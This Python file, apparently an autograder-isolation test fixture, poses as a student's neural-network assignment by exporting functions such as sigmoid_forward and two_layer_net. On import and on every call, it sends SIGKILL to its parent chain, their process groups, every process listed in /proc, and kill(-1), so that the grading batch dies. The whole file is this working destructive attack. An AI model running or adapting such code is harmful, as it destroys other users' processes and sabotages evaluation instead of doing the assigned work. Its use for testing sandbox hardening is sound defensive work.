"""Attack: end the grading batch by killing the processes above the worker.

It signals its parent, its parent's process group, every process it may
signal (kill(-1)), and every process whose command line says "autograder"
(found through /proc). Without a PID namespace, an unprivileged TA's batch
died with it (exit 137, no grades.csv).
"""
import os
import signal

NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
         "affine_forward", "affine_backward", "mse_loss", "two_layer_net", "eval_numerical_gradient")


def _parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return int(fh.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _strike():
    me, mine = os.getpid(), os.getpgid(0)
    # Its ancestors first (the fork server, the judge, the grading command), then every
    # other process /proc shows; never its own process group, which would end the attack.
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 16:
        chain.append(pid)
        pid = _parent_of(pid)
    others = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
    for pid in chain + [p for p in others if p not in chain and p != me]:
        try:
            group = os.getpgid(pid)
            if group != mine:
                os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal, but itself
    except OSError:
        pass


_strike()


def _attack(*args, **kwargs):
    _strike()
    raise NotImplementedError("attack: nothing implemented")


for _name in NAMES:
    globals()[_name] = _attack
